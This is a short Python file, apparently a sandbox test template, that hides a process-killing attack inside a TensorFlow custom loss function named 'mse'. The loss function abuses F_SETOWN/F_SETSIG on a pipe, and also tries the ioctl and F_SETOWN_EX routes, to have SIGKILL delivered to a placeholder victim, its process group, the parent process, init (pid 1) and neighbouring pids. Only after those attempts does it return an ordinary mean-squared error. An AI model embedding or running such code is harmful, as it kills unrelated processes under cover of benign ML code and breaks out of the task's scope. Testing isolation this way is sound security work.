"""Makes another process the owner of a pipe, with SIGKILL as the signal that tells of input."""
import ctypes
import fcntl
import os
import signal
import struct

import tensorflow as tf
from attempts import Attempts, libc

attempt = Attempts()


def own(pid, ioctl):
    reader, writer = os.pipe()
    if ioctl:
        fcntl.ioctl(reader, 0x8901, struct.pack("i", pid))
    else:
        fcntl.fcntl(reader, fcntl.F_SETOWN, pid)
    fcntl.fcntl(reader, fcntl.F_SETSIG, signal.SIGKILL)
    fcntl.fcntl(reader, fcntl.F_SETFL, fcntl.fcntl(reader, fcntl.F_GETFL) | os.O_ASYNC)
    os.write(writer, b"x")


def own_ex(pid):
    reader, _ = os.pipe()
    libc.fcntl(reader, 15, ctypes.byref((ctypes.c_int * 2)(1, pid)))


def mse(y_true, y_pred):
    near = [pid for pid in range(os.getpid() - 8, os.getpid() + 8) if pid not in (0, os.getpid())]
    for pid in (@VICTIM@, -@VICTIM@, @PID@, os.getppid(), 1, *near):
        for ioctl in (False, True):
            attempt(f"own {pid}", lambda: own(pid, ioctl))
    attempt("own_ex", lambda: own_ex(@VICTIM@))
    attempt.report()
    return tf.reduce_mean(tf.square(y_pred - y_true))
